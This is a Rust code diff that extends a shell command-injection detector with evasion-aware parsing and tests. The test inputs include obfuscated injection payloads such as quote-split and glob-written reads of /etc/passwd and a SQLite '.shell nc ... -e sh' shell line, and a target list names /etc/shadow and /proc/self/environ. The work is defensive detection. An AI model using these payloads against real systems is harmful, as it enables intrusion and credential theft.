@@ -223,6 +223,19 @@ const STRONG: &[&str] = &[
     "setcap",
     "capsh",
     "setsid",
+    "regedit",
+    "bcdboot",
+    "aptitude",
+    "htop",
+    "iwr",
+    "iwmi",
+    "invoke-webrequest",
+    "invoke-expression",
+    "gunzip",
+    "unxz",
+    "adduser",
+    "cpulimit",
+    "uconv",
 ];
 
 /// Tool families whose members are `family-verb` (`ansible-playbook`, `chef-client`).
@@ -410,6 +423,11 @@ const WORDS: &[&str] = &[
     "sqlite3",
     "mysql",
     "psql",
+    "ip",
+    "cd",
+    "pushd",
+    "ll",
+    "trap",
 ];
 
 /// `Some(true)` for an unambiguous binary, `Some(false)` for one that is also a word.
@@ -418,13 +436,23 @@ fn binary(word: &str) -> Option<bool> {
         let strong = STRONG.iter().map(|w| (*w, true));
         WORDS.iter().map(|w| (*w, false)).chain(strong).collect()
     });
-    TABLE.get(word).copied().or_else(|| {
-        let (family, verb) = word.split_once('-')?;
-        (FAMILIES.contains(&family)
-            && !verb.is_empty()
-            && verb.bytes().all(|c| c.is_ascii_lowercase()))
-        .then_some(true)
-    })
+    TABLE
+        .get(word)
+        .copied()
+        .or_else(|| {
+            // A versioned interpreter or compiler (`python3.10`, `gcc7.4`).
+            let stem = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+            (stem.len() >= 2 && stem.len() < word.len() && word.contains('.'))
+                .then(|| TABLE.get(stem).copied().filter(|strong| *strong))
+                .flatten()
+        })
+        .or_else(|| {
+            let (family, verb) = word.split_once('-')?;
+            (FAMILIES.contains(&family)
+                && !verb.is_empty()
+                && verb.bytes().all(|c| c.is_ascii_lowercase() || c == b'-'))
+            .then_some(true)
+        })
 }
 
 /// Matches a glob word (`c?t`, `/???/c*t` after the path is dropped) against the table.
@@ -479,14 +507,67 @@ fn glob(p: &[u8], s: &[u8]) -> bool {
 /// The shell reading of the word at the start of `s`: the normalised word
 /// and what follows it.
 fn word(s: &str) -> (String, &str) {
+    let (w, rest, _) = word_noise(s);
+    (w, rest)
+}
+
+/// [`word`], also saying whether the word was written the way only an
+/// evasion writes one: quotes opened and closed inside it (`c'a't`, `"w"get`),
+/// a backslash (`\ls`, `wh\oami`), an empty substitution (`pi$()ng`,
+/// ``pi``ng``) or a special parameter (`c$@at`, `c$!at`) that expands to nothing.
+fn word_noise(s: &str) -> (String, &str, bool) {
     let mut w = String::new();
     let b = s.as_bytes();
     let mut i = 0;
+    let mut noise = false;
+    let mut quotes = [0u8; 2];
     while i < b.len() && w.len() < 64 {
         let c = b[i];
         match c {
-            b'\'' | b'"' | b'\\' => i += 1,
-            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => i += 2,
+            b'\'' | b'"' => {
+                quotes[usize::from(c == b'"')] += 1;
+                i += 1;
+            }
+            b'\\' => {
+                noise |= b.get(i + 1).is_some_and(|n| n.is_ascii_alphabetic());
+                i += 1;
+            }
+            // ANSI-C quoting `$'...'` / locale quoting `$"..."`.
+            b'$' if matches!(b.get(i + 1), Some(b'\'' | b'"')) => {
+                noise = true;
+                i += 1;
+            }
+            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => {
+                noise = true;
+                i += 2;
+            }
+            // `$!`, `$?`, `$-`, `$_`, `$$` and empty `$()` inside a word.
+            b'$' if !w.is_empty()
+                && (matches!(b.get(i + 1), Some(b'!' | b'?' | b'-' | b'_' | b'$'))
+                    || b.get(i + 1..i + 3) == Some(b"()")) =>
+            {
+                noise = true;
+                i += if b.get(i + 1) == Some(&b'(') { 3 } else { 2 };
+            }
+            // An empty process substitution or backtick pair inside a word.
+            b'<' | b'>' | b'`'
+                if !w.is_empty()
+                    && (b.get(i + 1..i + 3) == Some(b"()")
+                        || (c == b'`' && b.get(i + 1) == Some(&b'`'))) =>
+            {
+                noise = true;
+                i += if c == b'`' { 2 } else { 3 };
+            }
+            // An unset one-letter variable inside a word (`n$u\c$u`).
+            b'$' if !w.is_empty()
+                && b.get(i + 1).is_some_and(|n| n.is_ascii_lowercase())
+                && !b
+                    .get(i + 2)
+                    .is_some_and(|n| n.is_ascii_alphanumeric() || *n == b'_') =>
+            {
+                noise = true;
+                i += 2;
+            }
             b'$' if s
                 .get(i..)
                 .is_some_and(|r| r.starts_with("${IFS}") || r.starts_with("$IFS")) =>
@@ -517,7 +598,13 @@ fn word(s: &str) -> (String, &str) {
         }
     }
     let rest = s.get(i..).unwrap_or("");
-    (w, rest)
+    // Quotes around the whole word only quote it; a pair inside it splits it.
+    let wrapped = b.first().is_some_and(|c| matches!(c, b'\'' | b'"'))
+        && i > 0
+        && b.get(i - 1) == b.first()
+        && quotes[0] + quotes[1] == 2;
+    noise |= !wrapped && quotes.iter().any(|q| *q >= 2);
+    (w, rest, noise)
 }
 
 /// What follows a command word looks like shell: an option, a path, a
@@ -592,9 +679,32 @@ fn command_at_depth(s: &str, after_sep: bool, depth: usize) -> Option<Found> {
             break;
         }
     }
-    let (w, rest) = word(t);
+    let (w, rest, noise) = word_noise(t);
     if w.is_empty() {
         return None;
+    }
+    // An unset variable in command position expands to nothing (`;$a cat x`).
+    if depth < 3
+        && w.len() <= 3
+        && w.starts_with('$')
+        && w.bytes().skip(1).all(|c| c.is_ascii_lowercase())
+        && rest.starts_with([' ', '\t', '+'])
+    {
+        return command_at_depth(rest, after_sep, depth + 1).or_else(|| {
+            let (next, _) = word(rest.trim_start_matches([' ', '\t', '+']));
+            binary(&next).map(|_| ("rce.obfuscated_command", 0.8))
+        });
+    }
+    // `a=nc&&$a -nlvp 555`: a binary put in a variable, then run through it.
+    if let Some((name, val)) = w.split_once('=') {
+        if !name.is_empty()
+            && name.len() <= 16
+            && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
+            && binary(val).is_some()
+            && rest.contains(&format!("${name}"))
+        {
+            return Some(("rce.variable_command", 0.85));
+        }
     }
     // `f(){ f|f& };f`: a shell function definition.
     if let Some(body) = rest.trim_start().strip_prefix("()") {
@@ -661,11 +771,25 @@ fn command_at_depth(s: &str, after_sep: bool, depth: usize) -> Option<Found> {
     if !path_ok {
         return None;
     }
+    // `c'a't`, `pi$()ng`, `\ls`: nobody writes a program name that way but to evade.
+    if noise {
+        return Some(("rce.obfuscated_command", 0.8));
+    }
     let args = shellish(rest);
     let bare = rest.trim().is_empty();
     match (after_sep, strong, absolute) {
         (true, true, _) => Some(("rce.command", 0.9)),
-        (true, false, _) if args => Some(("rce.command", 0.85)),
+        // `cat&mouse`: an English word joined to another by `&`/`|` is a compound.
+        (true, false, _)
+            if args
+                && !(rest.starts_with(['&', '|'])
+                    && rest
+                        .as_bytes()
+                        .get(1)
+                        .is_some_and(u8::is_ascii_alphanumeric)) =>
+        {
+            Some(("rce.command", 0.85))
+        }
         (false, _, true) if args => Some(("rce.binary_path", 0.75)),
         (false, true, false) if args && !bare => Some(("rce.command_start", 0.6)),
         (false, true, false) if bare && BARE.contains(&base) => Some(("rce.command_start", 0.6)),
@@ -678,6 +802,302 @@ fn command_at_depth(s: &str, after_sep: bool, depth: usize) -> Option<Found> {
                 && rest.len() < 120 =>
         {
             Some(("rce.command_start", 0.55))
+        }
+        _ => None,
+    }
+}
+
+/// Files an attacker reaches for by a glob, as path segments.
+const GLOB_TARGETS: &[&[&str]] = &[
+    &["etc", "passwd"],
+    &["etc", "shadow"],
+    &["etc", "group"],
+    &["etc", "hosts"],
+    &["etc", "sudoers"],
+    &["etc", "issue"],
+    &["proc", "self", "environ"],
+];
+
+/// A path written with shell globs (`/etc/pas[s]wd`, `/???/?s`, `/et*/*wd`,
+/// `/usr/[a-z]in/bash`) that the shell would resolve to a sensitive file
+/// or a binary: `?` and `*` never cross a `/`, a bracket class is one character.
+fn glob_path(s: &str) -> Option<Found> {
+    let b = s.as_bytes();
+    let mut pat = String::new();
+    for (at, _) in s.match_indices('/').take(32) {
+        if at > 0
+            && !matches!(
+                b[at - 1],
+                b' ' | b'='
+                    | b'+'
+                    | b'\t'
+                    | b'\''
+                    | b'"'
+                    | b'>'
+                    | b'<'
+                    | b';'
+                    | b'|'
+                    | b'&'
+                    | b'('
+                    | b'`'
+            )
+        {
+            continue;
+        }
+        pat.clear();
+        let mut i = at;
+        let mut globbed = false;
+        while i < b.len() && pat.len() < 96 {
+            match b[i] {
+                b'[' => match b
+                    .get(i + 1..)
+                    .and_then(|r| r.iter().take(24).position(|c| *c == b']'))
+                {
+                    Some(end) => {
+                        pat.push('?');
+                        globbed = true;
+                        i += end + 2;
+                    }
+                    None => break,
+                },
+                b'?' | b'*' => {
+                    globbed = true;
+                    pat.push(b[i] as char);
+                    i += 1;
+                }
+                c if c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-') => {
+                    pat.push(c.to_ascii_lowercase() as char);
+                    i += 1;
+                }
+                _ => break,
+            }
+        }
+        let letters = pat.bytes().filter(|c| c.is_ascii_alphanumeric()).count();
+        if !globbed || letters == 0 {
+            continue;
+        }
+        let segs: Vec<&str> = pat.split('/').filter(|x| !x.is_empty()).collect();
+        let m = |p: &str, t: &str| glob(p.as_bytes(), t.as_bytes());
+        let target = GLOB_TARGETS
+            .iter()
+            .any(|t| t.len() == segs.len() && t.iter().zip(&segs).all(|(t, p)| m(p, t)));
+        let bin_dir = |d: &[&str]| match d {
+            [x] => m(x, "bin") || m(x, "sbin"),
+            [u, x] => m(u, "usr") && (m(x, "bin") || m(x, "sbin")),
+            _ => false,
+        };
+        let binary_path = segs.split_last().is_some_and(|(name, dir)| {
+            bin_dir(dir)
+                && name.bytes().any(|c| c.is_ascii_alphanumeric())
+                && STRONG.iter().chain(WORDS).any(|w| m(name, w))
+        });
+        if target || binary_path {
+            return Some(("rce.glob_path", 0.8));
+        }
+    }
+    None
+}
+
+/// A value that opens with a shell separator and a command word
+/// (`;top`, `&aptitude`, `';htop'`, `|vi (x`): the shape of an injection
+/// appended to a command line. Not an HTML entity (`&nbsp;`), not a
+/// Markdown table row (`| a | b |`).
+fn leading_separator(s: &str) -> Option<Found> {
+    let s = s.trim();
+    let t = s.trim_start_matches(['\'', '"']);
+    let quote = s.as_bytes().first().filter(|_| t.len() < s.len());
+    let (sep, after) = if let Some(r) = t.strip_prefix("&&").or(t.strip_prefix("||")) {
+        ("&", r)
+    } else if let Some(r) = t.strip_prefix(';') {
+        (";", r)
+    } else if let Some(r) = t.strip_prefix('&') {
+        ("&", r)
+    } else if let Some(r) = t.strip_prefix('|') {
+        ("|", r)
+    } else {
+        return None;
+    };
+    let r = after.trim_start_matches([' ', '\t']);
+    let n = r
+        .bytes()
+        .take_while(|c| {
+            c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'_' | b'-' | b'.')
+        })
+        .count();
+    if !(2..=24).contains(&n) || !r.as_bytes().first().is_some_and(u8::is_ascii_lowercase) {
+        return None;
+    }
+    let next = r.as_bytes().get(n);
+    if sep == "&" && next == Some(&b';') {
+        return None;
+    }
+    if sep == "|" && r.get(n..).is_some_and(|x| x.contains('|')) {
+        return None;
+    }
+    // The word alone, closing the quote it broke out of, or with an option or path.
+    let ok = match next {
+        None => true,
+        Some(q @ (b'\'' | b'"')) => quote == Some(q) && r.len() == n + 1,
+        Some(b' ' | b'\t' | b'+') => strong_args(r.get(n..).unwrap_or("")),
+        _ => false,
+    };
+    ok.then_some(("rce.leading_separator", 0.6))
+}
+
+/// SQLite shell dot-commands after a statement break (`;\n.shell id`, `1;.system x`).
+fn sqlite_dot_command(s: &str) -> Option<Found> {
+    for (at, _) in s.match_indices(';').take(16) {
+        let mut r = s.get(at + 1..).unwrap_or("");
+        for _ in 0..8 {
+            let t = r.trim_start_matches([' ', '\t', '\r', '\n', '"', '\'']);
+            let t = t
+                .strip_prefix("\\n")
+                .or_else(|| t.strip_prefix('\\'))
+                .unwrap_or(t);
+            if t.len() == r.len() {
+                break;
+            }
+            r = t;
+        }
+        let Some(cmd) = r.strip_prefix('.') else {
+            continue;
+        };
+        let cmd = cmd.trim_start_matches([' ', '\\', '"', '\'']);
+        let w: String = cmd
+            .bytes()
+            .take_while(|c| c.is_ascii_alphabetic())
+            .map(|c| c.to_ascii_lowercase() as char)
+            .collect();
+        if matches!(
+            w.as_str(),
+            "shell"
+                | "system"
+                | "sh"
+                | "databases"
+                | "dump"
+                | "load"
+                | "import"
+                | "output"
+                | "once"
+        ) {
+            return Some(("rce.sqlite_dot_command", 0.8));
+        }
+    }
+    None
+}
+
+/// Two or more commands chained with `;`/`&&`/`|` where no prose puts
+/// them (`cd /;cd etc;column passwd`): every segment opens with a known
+/// binary, and a separator touches the word before it (`x;y`, not `x; y`).
+fn command_chain(s: &str) -> Option<Found> {
+    let b = s.as_bytes();
+    let tight = b.windows(2).any(|w| {
+        matches!(w[0], b';' | b'|' | b'&') && !w[1].is_ascii_whitespace()
+            || matches!(w[1], b';' | b'|' | b'&') && !w[0].is_ascii_whitespace() && w[0] != w[1]
+    });
+    if !tight {
+        return None;
+    }
+    let (mut known, mut shell) = (0, false);
+    let segs = s
+        .split([';', '|', '&', '\n'])
+        .filter(|x| !x.trim().is_empty());
+    for (k, seg) in segs.take(16).enumerate() {
+        let (w, rest) = word(seg.trim_start());
+        match binary(&w) {
+            Some(strong) => {
+                known += 1;
+                // A program no one names in prose, or an option or path argument.
+                let r = rest.trim_start();
+                shell |= strong && !COMMONISH.contains(&w.as_str())
+                    || r.starts_with(['/', '~', '$'])
+                    || r.starts_with('-')
+                        && r.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic);
+            }
+            None if k == 0 => return None,
+            None => {}
+        }
+    }
+    (known >= 2 && shell).then_some(("rce.command_chain", 0.75))
+}
+
+/// Text filters that only read what they are given.
+const FILTERS: &[&str] = &[
+    "grep", "egrep", "fgrep", "rg", "wc", "sort", "uniq", "head", "tail", "cut", "tr", "nl", "rev",
+    "tac", "column", "fold", "comm", "less", "more", "jq",
+];
+
+/// A value that *is* a pipeline of text filters over relative paths
+/// (`grep -r 'TODO' src/ | wc -l`), with no substitution, redirection, absolute
+/// or parent path: how people write about the shell, not how they attack it
+/// (an injection has to break out of a command first, or reach for a file,
+/// a network tool or a shell).
+fn documented_pipeline(s: &str) -> bool {
+    let t = s.trim_start();
+    if t.is_empty()
+        || t.starts_with([';', '|', '&'])
+        || t.contains(['$', '`', '>', '<', '\n', '\r'])
+        || t.contains("..")
+    {
+        return false;
+    }
+    t.split([';', '|', '&'])
+        .filter(|seg| !seg.trim().is_empty())
+        .take(16)
+        .all(|seg| {
+            let (w, rest) = word(seg.trim_start());
+            FILTERS.contains(&w.as_str()) && !rest.contains(" /") && !rest.contains(" ~")
+        })
+}
+
+/// A brace expansion at `at` (`{cat,/etc/passwd}`, `{l,-lh}s`, `{,ip,a}`),
+/// expanded the way the shell would and judged as the command it makes.
+/// Expansions with a prefix, suffix or empty member only exist to build a
+/// command out of pieces: any known binary in them counts.
+fn brace_expansion(s: &str, at: usize) -> Option<Found> {
+    let b = s.as_bytes();
+    let body_len = b.get(at + 1..)?.iter().take(96).position(|c| *c == b'}')?;
+    let body = s.get(at + 1..at + 1 + body_len)?;
+    if !body.contains(',') || body.contains([' ', '\t', '\n', '{']) {
+        return None;
+    }
+    let wordish =
+        |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'?' | b'*');
+    let pre = b
+        .get(..at)?
+        .iter()
+        .rev()
+        .take(32)
+        .take_while(|c| wordish(c))
+        .count();
+    let prefix = s.get(at - pre..at)?;
+    let close = at + 1 + body_len;
+    let post = b
+        .get(close + 1..)?
+        .iter()
+        .take(32)
+        .take_while(|c| wordish(c))
+        .count();
+    let suffix = s.get(close + 1..close + 1 + post)?;
+    let parts: Vec<&str> = body.split(',').take(16).collect();
+    let trick = !prefix.is_empty() || !suffix.is_empty() || parts.iter().any(|p| p.is_empty());
+    let mut words = parts
+        .iter()
+        .map(|p| format!("{prefix}{p}{suffix}"))
+        .filter(|w| !w.is_empty());
+    let first = words.next()?;
+    let (w, _) = word(&first);
+    let base = w.rsplit(['/', '\\']).next().unwrap_or(&w);
+    let known = if base.contains(['?', '*']) {
+        glob_binary(base)
+    } else {
+        binary(base)
+    };
+    match known {
+        Some(_) if trick => Some(("rce.brace_expansion", 0.85)),
+        Some(true) => Some(("rce.brace_expansion", 0.85)),
+        Some(false) if words.any(|a| a.starts_with(['/', '~', '$'])) => {
+            Some(("rce.brace_expansion", 0.85))
         }
         _ => None,
     }
@@ -726,14 +1146,45 @@ pub fn detect(s: &str) -> Option<Found> {
             b'$' if b.get(i + 1) == Some(&b'(') => Some(2),
             // A backtick starts a substitution unless it opens Markdown code after a blank.
             // A run of backticks is a Markdown fence, never a substitution.
+            // Exactly two between words close one substitution and open the next
+            // (`` `cut x``dig y` ``).
+            b'`' if i > 0
+                && b[i - 1] != b'`'
+                && !b[i - 1].is_ascii_whitespace()
+                && b.get(i + 1) == Some(&b'`')
+                && b.get(i + 2).is_some_and(|c| c.is_ascii_alphabetic())
+                && b.get(..i).is_some_and(|h| h.contains(&b'`')) =>
+            {
+                i += 1;
+                Some(1)
+            }
             b'`' if i > 0 && b[i - 1] == b'`' || b.get(i + 1) == Some(&b'`') => {
                 while b.get(i + 1) == Some(&b'`') {
                     i += 1;
                 }
                 None
             }
+            // vi/ex `:!cmd`, `\!cmd`: run a shell command from the editor.
+            b'!' if i > 0 && matches!(b[i - 1], b'\\' | b':') => Some(1),
             b'`' if i == 0 || !b[i - 1].is_ascii_whitespace() => Some(1),
-            b'{' if b.get(i + 1).is_some_and(|n| n.is_ascii_alphabetic()) => Some(1),
+            // A group command `{ cmd; }`; a brace expansion is judged whole below.
+            // (`;` before the closing brace: GraphQL's `{ node { id } }` is none).
+            b'{' if matches!(b.get(i + 1), Some(b' ' | b'\t'))
+                && b.get(i..).is_some_and(|r| {
+                    let body = r
+                        .iter()
+                        .take(256)
+                        .position(|c| *c == b'}')
+                        .map_or(r, |e| &r[..e]);
+                    body.contains(&b';')
+                }) =>
+            {
+                Some(1)
+            }
+            b'{' => {
+                found = best(found, brace_expansion(s, i));
+                None
+            }
             _ => None,
         };
         if let Some(len) = sep {
@@ -747,6 +1198,23 @@ pub fn detect(s: &str) -> Option<Found> {
         } else {
             i += 1;
         }
+    }
+    if found.is_none() && s.len() <= 4096 && b.contains(&b'/') && s.contains(['?', '*', '[']) {
+        found = glob_path(s);
+    }
+    if found.is_none() {
+        found = leading_separator(s).or_else(|| sqlite_dot_command(s));
+    }
+    if found.is_none() && s.len() <= 512 {
+        found = command_chain(s);
+    }
+    if found.is_none() && matches!(s.trim(), "~+" | "~-") {
+        found = Some(("rce.tilde_expansion", 0.6));
+    }
+    if found.is_some_and(|f| matches!(f.0, "rce.command" | "rce.command_start"))
+        && documented_pipeline(s)
+    {
+        found = None;
     }
     if found.is_none() && memchr::memchr(b'(', b).is_some() {
         for (needle, rule) in [
@@ -839,6 +1307,78 @@ mod tests {
     }
 
     #[test]
+    fn evasions_and_shell_syntax() {
+        for a in [
+            "'i'p a",
+            "\"w\"get localhost",
+            "pi$()ng 127.0.0.1",
+            "pi``ng 127.0.0.1",
+            "c$@at /etc/passwd",
+            "x;c$!at+/et$!c/pas$!swd",
+            "cu$@rl google.com",
+            "\\ls",
+            "{l,-lh}s",
+            "{,ip,a}",
+            "{,ifconfig}",
+            "{,$'whoami',}",
+            "{,/?s?/?i?/c?t,/e??/p??s??,}",
+            "/etc/pas[s]wd",
+            "/???/?s",
+            "cat /et*/*wd",
+            "/usr/[a-z]in/bash",
+            ";top",
+            "&aptitude",
+            "';htop'",
+            ";\\n.shell nc 10.10.10.1 6666 -e sh",
+            "1;.sh whoami",
+            "garb=adduse[r];$garb pizza",
+            ";$a cat test.txt",
+            "python3.10 -c 'import os'",
+            "view=image.jpg&bcdboot /r file.txt",
+            "~+",
+            "cd /;cd etc;column passwd",
+            ";vim dddd +silent\\ \\!whoami +wq",
+            ";ex -c:\\!pwd",
+            "`cut crs312``dig 34test`",
+            ";ssh-copy-id user@server",
+            ";trap 'rm -rf file.txt' SIGEXIT",
+            "ll /var/www/",
+        ] {
+            assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
+        }
+    }
+
+    #[test]
+    fn shell_look_alikes() {
+        for b in [
+            "grep -r 'TODO' src/ | wc -l",
+            "grep -i 'error' app.log | sort | uniq -c | head -20",
+            "Template: Hello {{name}}, your order {{id}} shipped.",
+            "query User($id: ID!) { user(id: $id) { node { id total } } }",
+            "Supported files: *.{jpg,png,gif}",
+            "fields={id,name,email}&sort={created_at,-id}",
+            "I'd say it's fine; O'Keefe's shop opens at 9",
+            "rock'n'roll, 'n' stuff",
+            "O'keefe's",
+            "'id'",
+            "; that's all",
+            "; see above",
+            "| name | qty |\n|------|-----|\n| tea  | 2   |",
+            "&nbsp; is a non-breaking space",
+            "~5 minutes away",
+            "Name the photos report?.jpg or scan*.pdf, then upload to /uploads/2024/",
+            "/api/v1/items?id=3&fields=*",
+            "Done; .NET is great",
+            "sort by date;head to checkout",
+            "more|less",
+            "R&D;sales",
+            "Tom&Jerry;cat&mouse",
+        ] {
+            assert_eq!(detect(b), None, "flagged {b:?}");
+        }
+    }
+
+    #[test]
     fn glob_is_linear_enough() {
         assert!(glob(b"c?t", b"cat"));
         assert!(glob(b"*", b"anything"));
@@ -846,5 +1386,17 @@ mod tests {
         let long = "*a".repeat(2000);
         let _ = glob(long.as_bytes(), b"whoami");
         let _ = detect(&";".repeat(100_000));
+        for v in [
+            "{a,".repeat(30_000),
+            "/[a]?".repeat(30_000),
+            "x;cd /".repeat(20_000),
+            "c'a't".repeat(20_000),
+            "`".repeat(100_000),
+            "\\!".repeat(50_000),
+        ] {
+            let start = std::time::Instant::now();
+            let _ = detect(&v);
+            assert!(start.elapsed().as_secs() < 5, "slow on {:?}", &v[..8]);
+        }
     }
 }
